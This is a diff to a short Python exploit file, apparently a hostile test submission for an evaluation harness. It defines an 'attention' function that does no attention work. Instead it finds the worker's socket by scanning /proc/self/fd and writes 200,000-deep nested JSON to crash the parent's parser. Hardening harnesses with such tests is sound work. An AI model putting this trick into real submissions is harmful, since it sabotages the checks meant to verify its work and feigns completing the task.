@@ -1,11 +1,21 @@
-"""Exploit (class 4, parser): write a reply nested 200,000 levels deep straight onto the worker's socket (its
-descriptor is on the command line): a recursive JSON parser in the parent would die of RecursionError."""
+"""Exploit (class 4, parser): write a reply nested 200,000 levels deep straight onto the worker's socket (found
+among its open descriptors): a recursive JSON parser in the parent would die of RecursionError."""
 import os
 import struct
-import sys
 
 
 def attention(q, k, v, out, *, causal, scale):
     data = b"[" * 200_000 + b"]" * 200_000
-    os.write(int(sys.argv[-1]), struct.pack("!i", len(data)) + data)
+    os.write(_channel(), struct.pack("!i", len(data)) + data)
     os._exit(0)
+
+
+def _channel():
+    """The worker's socket: the first descriptor that is one."""
+    for name in sorted(os.listdir("/proc/self/fd"), key=int):
+        try:
+            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
+                return int(name)
+        except OSError:
+            pass
+    return 1
